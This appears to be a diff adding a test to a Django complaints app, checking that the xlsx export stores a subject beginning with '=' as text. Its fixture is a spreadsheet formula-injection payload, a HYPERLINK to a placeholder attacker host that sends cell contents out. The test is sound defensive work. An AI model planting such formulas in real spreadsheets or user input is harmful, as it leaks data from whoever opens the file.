@@ -477,3 +477,18 @@ def test_actions_post_in_place_with_htmx_and_errors_are_swapped_in(client, agent
     assert 'hx-boost="true"' in page and 'hx-select="#complaint-main"' in page
     assert refused.status_code == 409
     assert 'id="complaint-main"' in refused.content.decode()
+
+
+def test_d2_the_export_keeps_a_formula_subject_as_text(client, supervisor, agent, register):
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    register(agent, subject=evil)
+    client.force_login(supervisor)
+
+    response = client.get("/complaints/", {"export": "xlsx"})
+
+    subject = load_workbook(BytesIO(response.content)).active["B2"]
+    assert (subject.value, subject.data_type) == (evil, "s")
